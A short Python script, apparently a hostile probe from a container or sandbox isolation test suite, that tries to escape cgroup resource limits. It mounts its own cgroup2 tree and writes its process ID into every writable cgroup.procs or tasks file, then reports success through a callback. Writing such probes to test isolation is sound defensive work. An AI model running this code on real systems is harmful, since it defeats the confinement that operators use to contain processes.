"""Wants to be where no ceiling holds: enters every cgroup in reach, or mounts the tree itself."""

import contextlib
import ctypes
import glob
import os
import tempfile
import time
from collections.abc import Callable


def attack(ready: Callable[[dict[str, object]], object]) -> None:
    with open("/proc/self/cgroup") as file:
        before = file.read()
    libc, tree = ctypes.CDLL(None), tempfile.mkdtemp(prefix="hostile-")
    mounted = libc.mount(b"none", tree.encode(), b"cgroup2", 0, None) == 0
    writable: list[str] = []
    for root in ("/sys/fs/cgroup", *glob.glob("/sys/fs/cgroup/*/"), tree):
        for folder, _, names in os.walk(root):
            if writable and writable[-1].startswith(root):
                break  # the highest group that it may enter is enough
            for name in {"cgroup.procs", "tasks"} & set(names):
                with contextlib.suppress(OSError), open(os.path.join(folder, name), "w") as file:
                    file.write(str(os.getpid()))
                    file.flush()
                    writable.append(os.path.join(folder, name))
    with open("/proc/self/cgroup") as file:
        moved = file.read() != before
    libc.umount2(tree.encode(), 2)
    os.rmdir(tree)
    ready({"escaped": moved or mounted, "detail": {"writable": writable, "mounted": mounted}})
    time.sleep(300)


if __name__ == "__main__":
    __import__("_common").command(attack)
